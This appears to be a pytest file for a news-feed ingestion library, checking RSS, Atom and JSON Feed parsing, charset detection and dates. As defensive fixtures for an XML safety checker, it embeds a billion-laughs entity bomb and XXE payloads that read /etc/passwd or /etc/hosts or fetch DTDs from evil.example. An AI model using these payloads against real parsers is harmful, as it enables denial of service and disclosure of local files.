"""ingest.feeds: RSS/Atom/JSON Feed -> items; ingest.xmlsafety: entity bombs and external entities refused."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from storyline.errors import EmptyDocument, InputError
from storyline.ingest.feeds import looks_like_feed, parse_date, parse_feed
from storyline.ingest.xmlsafety import UnsafeXML, check_xml_prolog
from storyline.model import ItemKind, RawDocument

FIXTURES = Path(__file__).parent / "fixtures" / "feeds"
SHARED = Path(__file__).resolve().parents[1].parent / "shared"
needs_shared = pytest.mark.skipif(not SHARED.is_dir(), reason="../shared not present")
CST = timezone(timedelta(hours=8))


def fixture(name: str, **kwargs: object) -> RawDocument:
    path = FIXTURES / name
    return RawDocument(path.read_bytes(), str(path), **kwargs)  # type: ignore[arg-type]


def doc(data: str | bytes, origin: str = "feed.xml", content_type: str | None = None) -> RawDocument:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return RawDocument(raw, origin, content_type=content_type)


def test_rss20_content_encoded() -> None:
    fetched = datetime(2024, 10, 21, 9, 0, tzinfo=UTC)
    first, second = parse_feed(fixture("rss20_content.xml", fetched_at=fetched))
    assert first.kind is ItemKind.FRAGMENT
    assert first.key == "donghai-a101"
    assert "首批三艘货轮靠泊作业" in first.body and "<p>" in first.body
    assert "本周一投入试运行。</" not in first.body  # the full content, not the description
    hints = first.hints
    assert hints.guid == "donghai-a101"
    assert hints.url == "https://news.donghai.example/port/2024-10-21/a101.html"
    assert hints.title == "东海港新码头试运行"
    assert hints.author == "林晓岚"
    assert hints.source == "东海日报"
    assert hints.site_name == "news.donghai.example"
    assert hints.language == "zh-cn"
    assert hints.fetched_at == fetched
    assert hints.summary_only is False
    assert hints.published == datetime(2024, 10, 21, 16, 0, tzinfo=CST)
    assert hints.published.utcoffset() == timedelta(hours=8)  # the offset as written, not UTC
    # no guid: the link is the key; "mail (Name)" gives the name
    assert second.key == "https://news.donghai.example/en/port/a102.html"
    assert second.hints.guid is None
    assert second.hints.author == "Mara Quill"
    assert second.hints.published == datetime(2024, 10, 21, 9, 15, tzinfo=UTC)


def test_rss10_rdf() -> None:
    [item] = parse_feed(fixture("rss10.rdf"))
    assert item.kind is ItemKind.TEXT  # a plain description
    assert item.body.startswith("Die Reederei stellt am Freitag eine neue Fähre")
    assert item.hints.summary_only is True
    assert item.hints.title == "Neue Fähre für die Inselroute"
    assert item.hints.author == "Jette Brandau"
    assert item.hints.language == "de"
    assert item.hints.source == "Nordkurier Beispiel"
    assert item.hints.published == datetime(2024, 10, 18, 11, 30, tzinfo=timezone(timedelta(hours=2)))
    assert item.key == "https://www.nordkurier.example/hafen/1"


def test_atom_xhtml_content() -> None:
    [item] = parse_feed(fixture("atom_xhtml.xml"))
    assert item.kind is ItemKind.FRAGMENT
    assert "<strong>7-2</strong>" in item.body
    assert "Work is expected to start in the spring." in item.body
    assert item.key == item.hints.guid == "tag:ledger.riverside.example,2024:bridge"
    assert item.hints.url == "https://ledger.riverside.example/2024/10/bridge"
    assert item.hints.author == "Dana Whitlock"
    assert item.hints.language == "en"
    assert item.hints.summary_only is False
    assert item.hints.published == datetime(2024, 10, 21, 9, 30, tzinfo=timezone(timedelta(hours=-5)))
    assert item.hints.published.utcoffset() == timedelta(hours=-5)


def test_json_feed() -> None:
    html_item, text_item, summary_item = parse_feed(fixture("jsonfeed.json"))
    assert html_item.kind is ItemKind.FRAGMENT
    assert "Seilbahn zum Gipfel" in html_item.body
    assert html_item.hints.author == "Lorenz Aigner"
    assert html_item.hints.source == "Bergstadt Anzeiger"
    assert html_item.hints.site_name == "anzeiger.bergstadt.example"
    assert html_item.hints.language == "de-DE"
    assert html_item.hints.published == datetime(2024, 10, 19, 8, 0, tzinfo=timezone(timedelta(hours=2)))
    assert text_item.kind is ItemKind.TEXT
    assert text_item.key == text_item.hints.guid == "42"  # a numeric id, as a string
    assert text_item.body == "经过三周检修，山城缆车周六起恢复运营。\n\n票价保持不变。"
    assert text_item.hints.language == "zh-Hans"
    assert text_item.hints.author == "Redaktion"  # the feed's author
    assert summary_item.hints.summary_only is True
    assert summary_item.body == "Der Herbstmarkt beginnt am Sonntag."


def test_json_feed_errors() -> None:
    with pytest.raises(InputError, match="not a JSON Feed: invalid JSON"):
        parse_feed(doc('{"version": "https://jsonfeed.org/version/1", "items": [}'))
    with pytest.raises(InputError, match="not a JSON Feed"):
        parse_feed(doc('{"title": "kein Feed"}'))
    with pytest.raises(EmptyDocument, match="has no items"):
        parse_feed(doc('{"version": "https://jsonfeed.org/version/1.1", "title": "Leer", "items": []}'))


GBK_BODY = (
    "港口管理局周三宣布，新建的集装箱码头将于下月正式投入使用。"
    "该码头位于东海湾北岸，设计年吞吐能力为三百万标准箱。"
    "市政府表示，项目建成后将带动周边物流产业发展，并新增约两千个就业岗位。"
)


def gbk_rss(declaration: str) -> bytes:
    text = (
        f"{declaration}<rss version=\"2.0\"><channel><title>东湾晚报</title>"
        "<link>https://dongwan.example/</link>"
        "<item><title>新码头下月投入使用</title><guid>dw-7</guid>"
        f"<description>{GBK_BODY}</description></item></channel></rss>"
    )
    return text.encode("gbk")


def test_gbk_feed_with_declaration() -> None:
    [item] = parse_feed(doc(gbk_rss('<?xml version="1.0" encoding="GBK"?>\n')))
    assert item.hints.title == "新码头下月投入使用"
    assert item.body == GBK_BODY
    assert item.hints.source == "东湾晚报"


def test_gbk_feed_without_declaration() -> None:
    data = gbk_rss("")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    [item] = parse_feed(doc(data))
    assert item.hints.title == "新码头下月投入使用"
    assert item.body == GBK_BODY
    # a Content-Type without charset does not stop the guess either
    [item] = parse_feed(doc(data, content_type="text/xml"))
    assert item.body == GBK_BODY


def test_content_type_charset_is_used() -> None:
    data = "<rss version=\"2.0\"><channel><title>t</title><item><title>Grüße aus Köln</title></item></channel></rss>"
    [item] = parse_feed(doc(data.encode("latin-1"), content_type="application/rss+xml; charset=ISO-8859-1"))
    assert item.hints.title == "Grüße aus Köln"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Lachen</title>
<item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>Geheim</title>
<item><title>Leak</title><description>&secret;</description></item></channel></rss>
"""


def test_billion_laughs_refused_without_expansion() -> None:
    with pytest.raises(UnsafeXML, match="unsafe XML: entity lol1 refers to other entities") as caught:
        parse_feed(doc(BILLION_LAUGHS))
    assert "\n" not in str(caught.value)
    assert isinstance(caught.value, InputError)


def test_external_entity_refused() -> None:
    with pytest.raises(UnsafeXML, match=r"external entity \(secret\)") as caught:
        parse_feed(doc(EXTERNAL_ENTITY))
    assert "root:" not in str(caught.value)
    public = EXTERNAL_ENTITY.replace('SYSTEM "file:///etc/passwd"', 'PUBLIC "-//X//Y" "http://evil.example/x"')
    with pytest.raises(UnsafeXML, match="external entity"):
        parse_feed(doc(public))


def test_xml_safety_variants() -> None:
    check_xml_prolog(b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                     b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"/>')
    check_xml_prolog(b'<?xml version="1.0"?><!-- <!DOCTYPE x [<!ENTITY a SYSTEM "f">]> --><rss/>')
    check_xml_prolog(b"<rss><description>&lt;!DOCTYPE x [&lt;!ENTITY a SYSTEM 'f'&gt;]&gt;</description></rss>")
    with pytest.raises(UnsafeXML, match="parameter entity"):
        check_xml_prolog(b'<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><rss/>')
    with pytest.raises(UnsafeXML, match="external entity"):
        check_xml_prolog(EXTERNAL_ENTITY.encode("utf-16"))  # found in UTF-16 too
    with pytest.raises(UnsafeXML, match="external entity"):
        check_xml_prolog(b'<!-- c --><?pi x?>\n<!doctype rss [<!entity a system "file:///etc/hosts">]><rss/>')
    many = "".join(f'<!ENTITY e{n} "x">' for n in range(100))
    with pytest.raises(UnsafeXML, match="100 entities"):
        check_xml_prolog(f"<!DOCTYPE rss [{many}]><rss/>".encode())
    with pytest.raises(UnsafeXML, match="characters long"):
        check_xml_prolog(f'<!DOCTYPE rss [<!ENTITY big "{"x" * 10000}">]><rss/>'.encode())


def test_plain_entity_in_doctype_allowed() -> None:
    data = """<!DOCTYPE rss [
  <!ENTITY id "tag:zeitung.example,">
  <!ENTITY copy "&#169;">
]>
<rss version="2.0"><channel><title>Zeitung</title>
<item><guid isPermaLink="false">&id;2024-10-21:/hafen/</guid><title>Hafenfest</title>
<description>Das Hafenfest beginnt am Samstag.</description></item></channel></rss>"""
    [item] = parse_feed(doc(data))
    assert item.hints.guid == "tag:zeitung.example,2024-10-21:/hafen/"


def test_malformed_xml_one_line_reason() -> None:
    with pytest.raises(EmptyDocument) as caught:
        parse_feed(doc('<?xml version="1.0"?>\n<rss version="2.0">\n<channel><title>Kaputt</title>\n</chanel>'))
    message = str(caught.value)
    assert message == "feed 'Kaputt' (rss20) has no entries (XML syntax error at line 4: mismatched tag)"
    with pytest.raises(InputError, match=r"^not a feed: XML syntax error at line \d+"):
        parse_feed(doc("<?xml version='1.0'?>\n<!-- nothing here -->\n"))


def test_not_a_feed_and_empty() -> None:
    with pytest.raises(InputError, match="not a feed"):
        parse_feed(doc("<html><body><p>Hallo</p></body></html>"))
    with pytest.raises(EmptyDocument, match="has no entries"):
        parse_feed(doc('<rss version="2.0"><channel><title>Leer</title></channel></rss>'))
    with pytest.raises(EmptyDocument):
        parse_feed(doc(b"   \n"))


def test_bozo_feed_with_entries_accepted() -> None:
    data = ('<rss version="2.0"><channel><title>Stadt & Land</title>'
            "<item><title>Markttag</title><link>https://stadt.example/a?x=1&y=2</link>"
            "<description>Der Markt öffnet um 8 Uhr.</description></item></channel></rss")
    [item] = parse_feed(doc(data))
    assert item.hints.title == "Markttag"
    assert item.body == "Der Markt öffnet um 8 Uhr."


def test_summary_only_entries() -> None:
    data = """<rss version="2.0"><channel><title>晨报</title><link>https://chenbao.example/</link>
<item><title>地铁新线开通</title><link>https://chenbao.example/a/1</link>
<description>&lt;p&gt;地铁五号线今日开通，&lt;a href="/a/0"&gt;详情&lt;/a&gt;。&lt;/p&gt;</description></item>
<item><title>天气转凉</title><link>https://chenbao.example/a/2</link>
<description>本周气温下降 5 &amp;deg;C 左右。</description></item>
<item><title>只有标题</title></item>
</channel></rss>"""
    html_item, text_item, bare = parse_feed(doc(data, origin="https://chenbao.example/rss.xml"))
    assert html_item.kind is ItemKind.FRAGMENT
    assert '<a href="https://chenbao.example/a/0">' in html_item.body  # relative links resolved
    assert html_item.hints.summary_only is True
    assert text_item.kind is ItemKind.TEXT
    assert text_item.body == "本周气温下降 5 °C 左右。"
    assert text_item.hints.summary_only is True
    assert bare.body == ""
    assert bare.hints.title == "只有标题"
    assert bare.key.startswith("sha256:")
    assert parse_feed(doc(data))[2].key == bare.key  # stable across re-reads


def test_duplicate_guids_get_unique_keys() -> None:
    entry = "<item><guid>same</guid><title>{}</title><description>Text {}</description></item>"
    data = f'<rss version="2.0"><channel><title>t</title>{entry.format(1, 1)}{entry.format(2, 2)}</channel></rss>'
    keys = [item.key for item in parse_feed(doc(data))]
    assert keys == ["same", "same#2"]


def test_date_without_zone_stays_naive() -> None:
    data = """<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
<entry><id>e1</id><title>Ohne Zone</title><updated>2024-10-21T08:00:00</updated><summary>s</summary></entry>
</feed>"""
    [item] = parse_feed(doc(data))
    assert item.hints.published == datetime(2024, 10, 21, 8, 0)
    assert item.hints.published.tzinfo is None


def test_parse_date() -> None:
    assert parse_date("Mon, 21 Oct 2024 16:00:00 +0800") == datetime(2024, 10, 21, 8, 0, tzinfo=UTC)
    assert parse_date("2024-10-21T08:00:00Z") == datetime(2024, 10, 21, 8, 0, tzinfo=UTC)
    assert parse_date("nicht ein Datum") is None
    assert parse_date("") is None


def test_looks_like_feed() -> None:
    assert looks_like_feed((FIXTURES / "rss20_content.xml").read_bytes()[:512])
    assert looks_like_feed((FIXTURES / "rss10.rdf").read_bytes()[:512])
    assert looks_like_feed((FIXTURES / "atom_xhtml.xml").read_bytes()[:512])
    assert looks_like_feed((FIXTURES / "jsonfeed.json").read_bytes()[:512])
    assert looks_like_feed('<?xml version="1.0"?>\n<rss version="2.0">'.encode("utf-16"))
    assert looks_like_feed(b'<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE rss [<!ENTITY a "b">]>\n<rss>')
    assert not looks_like_feed(b"<!DOCTYPE html><html><head><title>x</title></head>")
    assert not looks_like_feed(b"<html><body><p>Atom &lt;feed&gt; sample</p><feed></feed></body></html>")
    assert not looks_like_feed(json.dumps({"id": "1", "text": "x"}).encode())
    assert not looks_like_feed(b"WARC/1.0\r\n")


@pytest.mark.shared
@needs_shared
def test_feedparser_corpus_never_crashes() -> None:
    folder = SHARED / "data" / "feeds" / "feedparser" / "wellformed" / "atom10"
    for path in sorted(folder.glob("*.xml"))[:200]:
        try:
            parse_feed(RawDocument(path.read_bytes(), str(path)))
        except InputError as exc:
            assert "\n" not in str(exc)
